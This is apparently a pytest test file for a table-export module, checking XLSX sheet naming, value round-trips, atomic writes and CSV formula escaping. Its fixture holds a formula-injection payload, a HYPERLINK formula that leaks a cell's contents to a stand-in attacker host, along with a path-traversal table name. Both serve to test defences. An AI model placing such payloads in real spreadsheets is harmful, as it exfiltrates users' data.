"""Tables out as one XLSX workbook and as CSV files: names, values, formula safety, atomic writes."""
from __future__ import annotations

import zipfile
from datetime import datetime, timezone
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from workbench.export import ExportError, write_csvs, write_xlsx
from workbench.export.tables import escape_formula, file_names, sheet_names

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


def _segments() -> pd.DataFrame:
    return pd.DataFrame({
        "doc_id": ["t1.txt", "t1.txt", "t2.txt"],
        "seg_id": ["t1.txt#0000", "t1.txt#0001", "t2.txt#0000"],
        "start_char": [0, 40, 0],
        "end_char": [39, 80, 12],
        "text": [EVIL, "+44 7700 900123 call me", "@everyone 🙂"],
    })


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "".join(archive.read(n).decode("utf-8") for n in archive.namelist()
                       if n.startswith("xl/worksheets/"))


def test_one_sheet_per_table_in_order(tmp_path):
    tables = {"segments": _segments(), "codes": pd.DataFrame({"name": ["trust"], "n": [3]})}
    path = write_xlsx(tables, tmp_path / "out" / "tables.xlsx")
    assert path == tmp_path / "out" / "tables.xlsx" and path.is_file()
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["segments", "codes"]
    rows = list(book["segments"].iter_rows(values_only=True))
    assert rows[0] == ("doc_id", "seg_id", "start_char", "end_char", "text")
    assert rows[1] == ("t1.txt", "t1.txt#0000", 0, 39, EVIL)
    assert rows[3][4] == "@everyone 🙂"
    assert list(book["codes"].iter_rows(values_only=True)) == [("name", "n"), ("trust", 3)]
    assert book["segments"].freeze_panes == "A2"


def test_formula_text_stays_text(tmp_path):
    path = write_xlsx({"segments": _segments()}, tmp_path / "t.xlsx")
    sheet = openpyxl.load_workbook(path)["segments"]
    for row in sheet.iter_rows(min_row=2):
        cell = row[4]
        assert cell.data_type == "s", (cell.value, cell.data_type)
    assert sheet["E2"].value == EVIL
    xml = _sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere in the sheets


def test_sheet_names_are_valid_unique_and_short():
    names = sheet_names(["a/b:c?", "x" * 40, "X" * 40, "Segments", "segments", "History", "", "'quoted'",
                         "[brackets]*"])
    assert len(names) == len(set(n.lower() for n in names)) == 9
    for name in names:
        assert 0 < len(name) <= 31
        assert not set(name) & set("[]:*?/\\")
        assert not name.startswith("'") and not name.endswith("'")
    assert names[0] == "a_b_c_"
    assert names[1] == "x" * 31 and names[2].endswith(" (2)") and len(names[2]) == 31
    assert names[3] == "Segments" and names[4] == "segments (2)"
    assert names[5].lower() != "history"


def test_awkward_names_and_values_round_trip(tmp_path):
    when = datetime(2025, 3, 14, 10, 30, tzinfo=timezone.utc)
    frame = pd.DataFrame({
        "int": [1, 2], "float": [1.5, float("nan")], "bool": [True, False],
        "aware": [when, when], "naive": [datetime(2025, 1, 1), None],
        "codes": [["trust", "power"], []], "ctrl": ["bad\x0bchar", None],
    })
    tables = {"a/b": frame, "A/B": frame.head(1), "x" * 50: pd.DataFrame()}
    path = write_xlsx(tables, tmp_path / "t.xlsx")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["a_b", "A_B (2)", "x" * 31]
    rows = list(book["a_b"].iter_rows(values_only=True))
    assert rows[1][:3] == (1, 1.5, True)
    assert rows[2][1] is None  # NaN -> empty cell
    assert rows[1][3] == when.isoformat()  # time zones are kept, as text
    assert rows[1][4] == datetime(2025, 1, 1) and rows[2][4] is None
    assert rows[1][5] == '["trust", "power"]'
    assert rows[1][6] == "bad\ufffdchar"  # a character XML cannot hold is replaced, not a crash
    assert list(book["x" * 31].iter_rows(values_only=True)) == []


def test_named_index_is_kept(tmp_path):
    frame = pd.DataFrame({"n": [3, 1]}, index=pd.Index(["trust", "power"], name="code"))
    path = write_xlsx({"counts": frame}, tmp_path / "t.xlsx")
    rows = list(openpyxl.load_workbook(path)["counts"].iter_rows(values_only=True))
    assert rows == [("code", "n"), ("trust", 3), ("power", 1)]


def test_atomic_overwrite_and_errors(tmp_path):
    path = tmp_path / "t.xlsx"
    write_xlsx({"a": pd.DataFrame({"x": [1]})}, path)
    before = path.read_bytes()
    with pytest.raises(ExportError, match=r"\[E451\]"):
        write_xlsx({"a": "not a frame"}, path)
    with pytest.raises(ExportError, match=r"\[E451\]"):
        write_xlsx({}, path)
    assert path.read_bytes() == before  # a failed export leaves the old file alone
    write_xlsx({"b": pd.DataFrame({"y": [2]})}, path)
    assert openpyxl.load_workbook(path).sheetnames == ["b"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["t.xlsx"]  # no temp files left behind
    (tmp_path / "folder.xlsx").mkdir()
    with pytest.raises(ExportError, match=r"\[E450\]"):
        write_xlsx({"a": pd.DataFrame({"x": [1]})}, tmp_path / "folder.xlsx")


def test_write_csvs_escapes_formulas(tmp_path):
    written = write_csvs({"segments": _segments(), "../evil name": pd.DataFrame({"=x": ["-1", "ok"]})},
                         tmp_path / "csv")
    assert list(written) == ["segments", "../evil name"]
    for path in written.values():
        assert path.parent == tmp_path / "csv" and path.suffix == ".csv"
    back = pd.read_csv(written["segments"])
    assert back["text"].tolist() == ["'" + EVIL, "'+44 7700 900123 call me", "'@everyone 🙂"]
    assert back["start_char"].tolist() == [0, 40, 0]  # numbers are not touched
    other = pd.read_csv(written["../evil name"], dtype=str)
    assert list(other.columns) == ["'=x"] and other["'=x"].tolist() == ["'-1", "ok"]


def test_write_csvs_raw_round_trip(tmp_path):
    written = write_csvs({"segments": _segments()}, tmp_path, escape_formulas=False)
    back = pd.read_csv(written["segments"])
    pd.testing.assert_frame_equal(back, _segments())


def test_escape_and_file_names():
    assert escape_formula("=1+1") == "'=1+1" and escape_formula("\tx") == "'\tx"
    assert escape_formula("plain") == "plain" and escape_formula(-3) == -3
    names = file_names(["a/b", "A/B", "..", "", "x:y"])
    assert len({n.lower() for n in names}) == 5
    for name in names:
        assert "/" not in name and "\\" not in name and name != "..csv" and not name.startswith(".")
